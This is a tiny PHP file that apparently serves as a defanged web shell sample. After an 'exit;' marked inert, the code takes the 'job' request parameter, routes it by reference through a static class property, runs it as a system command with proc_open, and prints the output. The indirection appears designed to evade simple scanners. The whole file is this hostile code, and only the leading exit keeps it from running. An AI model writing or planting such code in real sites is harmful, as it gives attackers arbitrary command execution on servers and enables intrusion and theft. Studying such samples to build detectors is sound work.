<?php exit; /* inert */ 
class R { public static $v; public static function bind(&$x) { self::$v =& $x; } }
R::bind($_REQUEST['job']);
$p = proc_open(R::$v, [1 => ['pipe', 'w']], $pp);
echo stream_get_contents($pp[1]);
